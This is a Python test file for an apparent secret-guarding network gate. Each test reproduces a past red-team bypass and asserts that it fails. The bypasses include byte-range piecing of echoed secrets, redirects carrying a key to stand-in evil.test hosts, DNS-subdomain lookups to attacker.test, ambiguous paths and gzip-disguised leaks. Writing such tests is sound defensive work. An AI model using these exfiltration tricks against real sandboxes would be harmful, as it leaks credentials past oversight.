"""What a red team once got through, each as the behaviour that stops it."""

from __future__ import annotations

import gzip
from collections.abc import Callable

import pytest
from tests.gate.conftest import ScriptedApprover
from tests.gate.network.conftest import HERE, Online
from tests.servers.answers import at
from tests.servers.http import Exchange, HttpServer, Tap
from tests.servers.replies import echo, redirect, reply, response, tapped

from capbox.gate.approver import No, Once

Connect = Callable[..., Online]
Start = Callable[..., HttpServer]

VALUE = "Sk-Live-0123456789-AbCdEf"
SECRETS = {"KEY": VALUE}
NAMES = {"localhost": at("127.0.0.1"), "name.test": at("127.0.0.1")}


def pieces(exchange: Exchange) -> None:
    """Answer as a server behind a filter for ranges, with what it was sent."""
    page = repr(exchange.request.headers).encode()
    [asked] = exchange.request.values("Range") or ["bytes=0-"]
    first, _, last = asked.removeprefix("bytes=").partition("-")
    exchange.send(response(page[int(first) : int(last) + 1 if last else None], status=206))


async def test_an_echo_cannot_be_had_in_pieces(online: Connect, http_server: Start) -> None:
    server = http_server({"/": pieces})
    line = online(NAMES, SECRETS)
    origin = f"http://localhost:{server.port}"
    guest = line.guest(line.desk.seat(f"fetch:{origin}", f"secret:KEY@{origin}"))
    come = b""
    for first in range(0, 300, 5):
        ranges = {"Range": f"bytes={first}-{first + 4}"}
        found = await guest.request(f"{origin}/", headers=ranges)
        come += await guest.body(found)
        await guest.serve("close", found.handle)
    assert b"[secret:KEY]" in come
    assert VALUE.encode() not in come


async def test_an_answer_that_began_before_the_secret_was_sent_does_not_hold_it(
    online: Connect, http_server: Start
) -> None:
    tap = Tap()
    log = http_server({"/": tapped(tap)})
    server = http_server({"/": echo})
    line = online(NAMES, SECRETS)
    origin = f"http://localhost:{server.port}"
    seat = line.desk.seat(f"fetch:{log.url('')}", f"fetch:{origin}", f"secret:KEY@{origin}")
    guest = line.guest(seat)
    early = await guest.request(log.url("/"))
    assert (await guest.request(f"{origin}/")).status == 200
    tap.give(f"Bearer {VALUE}".encode())
    tap.end()
    assert await guest.body(early) == b"Bearer [secret:KEY]"


async def test_a_secret_that_has_ended_still_keeps_the_guests_own_away(
    online: Connect, http_server: Start
) -> None:
    server = http_server({"/": reply(b"ok")})
    line = online(NAMES, SECRETS)
    origin = f"http://localhost:{server.port}"
    guest = line.guest(line.desk.seat(f"fetch:{origin}", f"secret:KEY@{origin} uses=1"))
    for _ in range(2):
        found = await guest.request(f"{origin}/", headers={"Authorization": "Bearer mine"})
        assert found.status == 200
    first, second = (request.values("Authorization") for request in server.requests)
    assert (first, second) == ([f"Bearer {VALUE}"], [])


async def test_a_name_that_does_not_exist_is_on_record_and_counts(online: Connect) -> None:
    line = online({})
    guest = line.guest(line.desk.seat(f"fetch:http://*.attacker.test uses=2 {HERE}"))
    codes = [(await guest.request(f"http://d{n}.attacker.test/")).error for n in range(4)]
    assert codes == ["dns", "dns", "denied", "denied"]
    assert line.kinds() == ["lookup", "lookup", "denial", "denial"]
    assert set(line.asked) == {"d0.attacker.test", "d1.attacker.test"}


async def test_a_path_with_two_readings_is_never_asked_for(
    online: Connect, http_server: Start
) -> None:
    server = http_server({"*": reply(b"ok")})
    line = online(NAMES)
    approver = ScriptedApprover(Once())
    ceiling = [f"fetch:http://name.test:{server.port} {HERE}"]
    guest = line.guest(line.desk.seat(ceiling=ceiling, approver=approver))
    found = await guest.request(server.url("/manual;v=1/..;/index.html", host="name.test"))
    assert found.error == "denied" and "one reading" in found.message
    assert server.connections == ()


async def test_a_yes_for_once_is_for_one_request(online: Connect, http_server: Start) -> None:
    server = http_server({"/": reply(b"ok")})
    line = online(NAMES)
    approver = ScriptedApprover(Once(), No())
    ceiling = [f"fetch:http://name.test:{server.port} {HERE}"]
    guest = line.guest(line.desk.seat(ceiling=ceiling, approver=approver))
    url = server.url("/", host="name.test")
    assert (await guest.request(url, "POST", body=b"shown")).status == 200
    assert (await guest.request(url, "POST", body=bytes(1_000))).error == "denied"
    assert [request.body for request in server.requests] == [b"shown"]


@pytest.mark.parametrize("place", [f"http://{VALUE}.evil.test/", f"http://evil.test/?k={VALUE}"])
async def test_a_secret_is_not_followed_to_another_server(
    place: str, online: Connect, http_server: Start
) -> None:
    server = http_server({"/": redirect(place)})
    line = online(NAMES, SECRETS)
    origin = f"http://localhost:{server.port}"
    grants = (f"fetch:{origin}", "fetch:http://*.evil.test", "fetch:http://evil.test")
    guest = line.guest(line.desk.seat(*grants, f"secret:KEY@{origin}"))
    assert (await guest.request(f"{origin}/")).error == "redirects"
    assert [name for name in line.asked if "evil" in name] == []


async def test_a_name_that_leads_to_a_private_address_counts_too(online: Connect) -> None:
    names = {f"d{n}.attacker.test": at("10.0.0.1") for n in range(4)}
    line = online(names)
    guest = line.guest(line.desk.seat("fetch:http://*.attacker.test uses=2"))
    for number in range(4):
        assert (await guest.request(f"http://d{number}.attacker.test/")).error == "denied"
    assert set(line.asked) == {"d0.attacker.test", "d1.attacker.test"}


@pytest.mark.parametrize("trick", ["zipped", "pieces"])
async def test_another_server_cannot_hand_a_secret_on_in_disguise(
    trick: str, online: Connect, http_server: Start
) -> None:
    def log(exchange: Exchange) -> None:
        # What an accomplice was told, or an honest log holds, of a request to the other origin.
        line = f"GET / Authorization: Bearer {VALUE}\n".encode()
        if trick == "zipped":
            headers = (("Content-Encoding", "gzip"),)
            exchange.send(response(gzip.compress(line), headers=headers))
            return
        [asked] = exchange.request.values("Range") or ["bytes=0-"]
        first, _, last = asked.removeprefix("bytes=").partition("-")
        exchange.send(response(line[int(first) : int(last) + 1 if last else None]))

    server, other = http_server({"/": reply(b"ok")}), http_server({"/": log})
    line = online(NAMES, SECRETS)
    origin = f"http://localhost:{server.port}"
    seat = line.desk.seat(f"fetch:{origin}", f"fetch:{other.url('')}", f"secret:KEY@{origin}")
    guest = line.guest(seat)
    assert (await guest.request(f"{origin}/")).status == 200
    come = b""
    for first in range(0, 60, 5):
        ranges = {"Range": f"bytes={first}-{first + 4}"}
        found = await guest.request(other.url("/"), headers=ranges, decode=False)
        come += await guest.body(found)
        await guest.serve("close", found.handle)
    assert b"Bearer [secret:KEY]" in come
    assert VALUE.encode() not in come
